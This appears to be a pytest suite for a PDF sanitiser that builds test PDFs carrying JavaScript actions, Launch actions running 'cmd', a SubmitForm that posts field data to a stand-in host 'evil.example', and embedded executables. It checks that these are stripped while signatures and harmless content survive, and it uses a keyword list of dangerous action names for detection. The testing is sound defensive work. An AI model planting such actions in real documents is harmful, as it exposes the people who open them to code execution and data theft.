"""Stage 6, assemble: nothing in a packet runs, sends or starts anything, and everything else is still there."""

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from foreign import Pdf, Tagged, link, text
from foreign_packet import Packet
from pdf_structure import struct
from pdf_tools import is_sound, page_text, unpacked

from schnv_docs.assemble import Removed

EVIL = 'app.alert(666)'
SCRIPT = f'<< /S /JavaScript /JS ({EVIL}) >>'
WORDS_OF_EVIL = (
    b'app.alert',
    b'/JavaScript',
    b'/JS',
    b'/Launch',
    b'/SubmitForm',
    b'/ImportData',
    b'/Rendition',
    b'evil',
)
Maker = Callable[[Pdf], None]


def _in_stream(pdf: Pdf) -> str:
    stream = pdf.add('', EVIL.encode())
    return f'{pdf.add(f"<< /Type /Action /S /JavaScript /JS {stream} 0 R >>")} 0 R'


def _field(pdf: Pdf, entries: str, form: str = '') -> None:
    page = pdf.page(text("Formulär"))
    number = pdf.annotate(page, f'/Subtype /Widget /FT /Tx /T (namn) /V (Anna) /Rect [72 400 172 420] /F 4 {entries}')
    pdf.catalog['/AcroForm'] = f'<< /Fields [{number} 0 R] {form} >>'


def _link(pdf: Pdf, entries: str) -> None:
    pdf.annotate(pdf.page(text("Länk")), link(entries))


def _opened(pdf: Pdf) -> None:
    pdf.page()
    pdf.catalog['/OpenAction'] = _in_stream(pdf)


def _named(pdf: Pdf) -> None:
    pdf.page()
    pdf.catalog['/Names'] = f'<< /JavaScript << /Names [(a) {_in_stream(pdf)}] >> >>'


def _closed(pdf: Pdf) -> None:
    pdf.page()
    pdf.catalog['/AA'] = f'<< /WC {SCRIPT} >>'


def _whole_catalog(pdf: Pdf) -> None:
    """An object leads to a catalog, and the catalog to everything."""
    names = f'<< /JavaScript << /Names [(a) {SCRIPT}] >> >>'
    catalog = pdf.add(f'<< /Type /Catalog /Names {names} /OpenAction {SCRIPT} >>')
    _link(pdf, f'/A << /S /URI /URI (https://example.org) >> /Odd {catalog} 0 R /AA << /E {SCRIPT} >>')


def _bookmark(pdf: Pdf) -> None:
    page = pdf.page()
    item = pdf.add(f'<< /Title (T) /Dest [{page} 0 R /Fit] /A {SCRIPT} >>')
    pdf.catalog['/Outlines'] = f'<< /First {item} 0 R /Last {item} 0 R >>'


SCRIPTS: dict[str, Maker] = {
    'when it is opened': _opened,
    'by name': _named,
    'when it is closed': _closed,
    'page': lambda pdf: pdf.give_page(pdf.page(), f'/AA << /O {SCRIPT} /C {_in_stream(pdf)} >>'),
    'annotation': lambda pdf: _link(pdf, f'/A {SCRIPT}'),
    'annotation, further': lambda pdf: _link(pdf, f'/A << /S /URI /URI (https://example.org) >> /AA << /E {SCRIPT} >>'),
    'field': lambda pdf: _field(pdf, f'/AA << /K {_in_stream(pdf)} /C {SCRIPT} >>'),
    'field, activated': lambda pdf: _field(pdf, f'/A {_in_stream(pdf)}'),
    'next': lambda pdf: _link(pdf, f'/A << /S /URI /URI (https://example.org) /Next {_in_stream(pdf)} >>'),
    'next of many': lambda pdf: _link(
        pdf, f'/A << /S /Named /N /NextPage /Next [<< /S /Named /N /PrevPage /Next [{SCRIPT}] >> {SCRIPT}] >>'
    ),
    'before it is next': lambda pdf: _link(pdf, f'/A << /S /JavaScript /JS ({EVIL}) /Next << /S /Named /N /Next >> >>'),
    'disguised': lambda pdf: _field(pdf, f'/Type /StructElem /A {SCRIPT} /AA << /S /P /K {SCRIPT} /Type /Odd >>'),
    'address': lambda pdf: _link(pdf, f'/A << /S /URI /URI (JavaScript:{EVIL}) >>'),
    'media': lambda pdf: _link(pdf, f'/A << /S /Rendition /OP 0 /JS ({EVIL}) >>'),
    'by way of the catalog': _whole_catalog,
}
LAUNCHES: dict[str, Maker] = {
    'program': lambda pdf: _link(pdf, '/A << /S /Launch /F (evil.txt) >>'),
    'program of Windows': lambda pdf: _link(pdf, '/A << /S /Launch /Win << /F (cmd) /P (evil) >> >>'),
    'sends': lambda pdf: _field(pdf, '/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'),
    'imports': lambda pdf: _field(pdf, '/A << /S /ImportData /F (evil.fdf) >>'),
    'next': lambda pdf: _link(pdf, '/A << /S /Named /N /NextPage /Next << /S /Launch /F (evil.txt) >> >>'),
    'bookmark': _bookmark,
}


def _packet(folder: Path, make: Maker) -> Packet:
    pdf = Pdf()
    make(pdf)
    return Packet(folder, pdf.save(folder / 'annex.pdf'))


def _assert_clean(packet: Packet) -> None:
    everything = unpacked(packet.path)
    assert [word for word in WORDS_OF_EVIL if word in everything] == []
    assert is_sound(packet.path)
    assert struct(packet.path) == []


@pytest.mark.parametrize('kind', SCRIPTS)
def test_scripts(kind: str, tmp_path: Path) -> None:
    packet = _packet(tmp_path, SCRIPTS[kind])
    _assert_clean(packet)
    assert packet.placed[1].removed == {Removed.SCRIPT}


@pytest.mark.parametrize('kind', LAUNCHES)
def test_programs_and_senders(kind: str, tmp_path: Path) -> None:
    packet = _packet(tmp_path, LAUNCHES[kind])
    _assert_clean(packet)
    assert packet.placed[1].removed == ({Removed.LAUNCH} if kind != 'bookmark' else {Removed.SCRIPT})


def test_the_form_in_xml_is_left_out(tmp_path: Path) -> None:
    def make(pdf: Pdf) -> None:
        _field(pdf, '', f'/XFA {pdf.add("", b"<xdp>evil</xdp>")} 0 R')

    packet = _packet(tmp_path, make)
    _assert_clean(packet)
    assert packet.placed[1].removed == {Removed.XFA}
    assert packet.reader.get_form_text_fields(full_qualified_name=True) == {'A.namn': "Anna"}


def test_what_is_harmless_stays(tmp_path: Path) -> None:
    """Names that only look like those of actions."""

    def make(pdf: Pdf) -> None:
        assert isinstance(pdf, Tagged)
        pdf.role_map = '/JavaScript /P /Launch /Span'
        span = pdf.element('Launch', pdf.element('JavaScript'), '/A << /O /Layout /TextAlign /Center >>')
        page = pdf.paper(span)
        pdf.note(page, link('/A << /S /URI /URI (https://example.org) >>'))
        pdf.catalog['/OpenAction'] = f'[{page} 0 R /Fit]'

    pdf = Tagged()
    make(pdf)
    packet = Packet(tmp_path, pdf.save(tmp_path / 'annex.pdf'))
    assert packet.placed[1].removed == frozenset()
    assert struct(packet.path) == []
    assert b'/TextAlign /Center' in packet.bytes_unpacked()


# Files within files


def _file(pdf: Pdf, name: str, content: bytes, more: str = '') -> str:
    stream = pdf.add('/Type /EmbeddedFile', content)
    return f'<< /Type /Filespec /F ({name}) {more} /EF << /F {stream} 0 R >> >>'


def _names(packet: Packet) -> dict[str, bytes]:
    """The embedded files by their names, in the order of the name tree."""
    names: Any = packet.reader.root_object['/Names']
    listed = names['/EmbeddedFiles']['/Names']
    return {
        name: file.get_object()['/EF']['/F'].get_data() for name, file in zip(listed[::2], listed[1::2], strict=True)
    }


def test_embedded_files_are_kept_but_for_programs(tmp_path: Path) -> None:
    pdf = Pdf()
    page = pdf.page(text("Se filerna"))
    files = {'tabell.xlsx': b'table', 'run.EXE': b'evil 1', 'run.js ': b'evil 2', '\xe5.txt': b'text'}
    specs = [f'({name}) {_file(pdf, name, content)}' for name, content in files.items()]
    specs.append(f'(odd.txt) {_file(pdf, "odd.txt", b"evil 3", "/UF (odd.ps1)")}')
    specs.append(f'(trick.bat) {_file(pdf, "trick.txt", b"evil 4")}')
    leaves = [pdf.add(f'<< /Names [{spec}] >>') for spec in specs]
    tree = ' '.join(f'{leaf} 0 R' for leaf in leaves)
    pdf.catalog['/Names'] = f'<< /EmbeddedFiles << /Kids [{tree}] >> >>'
    where = '/Subtype /FileAttachment /Rect [72 500 92 520] /Contents (fil)'
    pdf.annotate(page, f'{where} /FS {pdf.add(_file(pdf, "lapp.txt", b"note on the page"))} 0 R')
    pdf.annotate(page, f'{where} /FS {_file(pdf, "run.vbs", b"evil 5")}')
    path = pdf.save(tmp_path / 'annex.pdf')
    packet = Packet(tmp_path, path, path)
    assert packet.placed[1].removed == {Removed.PROGRAM}
    kept = {'tabell.xlsx': b'table', '\xe5.txt': b'text'}
    assert _names(packet) == {f'{letter} – {name}': data for letter in 'AB' for name, data in kept.items()}
    notes = [each for each in packet.page(0)['/Annots'] if each['/Subtype'] == '/FileAttachment']
    (kept_note,) = notes
    assert kept_note['/FS']['/EF']['/F'].get_data() == b'note on the page'
    assert b'evil' not in packet.bytes_unpacked()
    assert list(_names(packet)) == sorted(_names(packet))


# Signatures


@pytest.mark.parametrize('inherits', [True, False])
def test_a_signed_original_is_embedded_as_it_is(inherits: bool, tmp_path: Path) -> None:
    pdf = Pdf()
    page = pdf.page(text("Avtal"))
    look = pdf.add('/Type /XObject /Subtype /Form /BBox [0 0 99 20]', b'0 0 99 20 re f')
    seal = pdf.add('<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <ABCDEF> /Name (Anna) >>')
    kind, value = '/FT /Sig', f'/V {seal} 0 R'
    field = pdf.annotate(
        page,
        f'/Subtype /Widget /Rect [72 300 171 320] /F 132 /AP << /N {look} 0 R >> '
        + ('' if inherits else f'{kind} {value} /T (underskrift)'),
    )
    if inherits:
        field = pdf.add(f'<< {kind} {value} /T (underskrift) /Kids [{field} 0 R] >>')
    pdf.catalog['/AcroForm'] = f'<< /SigFlags 3 /Fields [{field} 0 R] >>'
    pdf.catalog['/Perms'] = f'<< /DocMDP {seal} 0 R >>'
    path = pdf.save(tmp_path / 'avtal.pdf')
    packet = Packet(tmp_path, path)
    assert packet.placed[1].is_signed
    ((name, data),) = _names(packet).items()
    assert name == "Bilaga A – avtal.pdf"
    assert hashlib.sha256(data).digest() == hashlib.sha256(path.read_bytes()).digest()
    fields: Any = packet.reader.get_fields()
    assert fields['A.underskrift']['/FT'] == '/Sig'
    assert '/V' not in fields['A.underskrift']
    assert packet.bytes_unpacked().count(b'/ByteRange') == 1, "in the original alone"
    assert packet.page(0)['/Annots'][0]['/AP']['/N'].get_data() == b'0 0 99 20 re f'
    assert struct(packet.path) == []


def test_a_field_that_waits_for_a_signature_is_not_signed(tmp_path: Path) -> None:
    pdf = Pdf()
    field = pdf.annotate(pdf.page(), '/Subtype /Widget /FT /Sig /T (underskrift) /Rect [72 300 171 320] /V null')
    pdf.catalog['/AcroForm'] = f'<< /Fields [{field} 0 R] >>'
    packet = Packet(tmp_path, pdf.save(tmp_path / 'avtal.pdf'))
    assert not packet.placed[1].is_signed
    assert packet.reader.attachments == {}


def test_the_words_of_an_annex_may_be_of_evil(tmp_path: Path) -> None:
    """What is written on a page is no action."""
    pdf = Pdf()
    pdf.page(text("/S /JavaScript /JS app.alert"))
    packet = Packet(tmp_path, pdf.save(tmp_path / 'annex.pdf'))
    assert "/S /JavaScript /JS app.alert" in page_text(packet.path, 1)
    assert packet.placed[1].removed == frozenset()
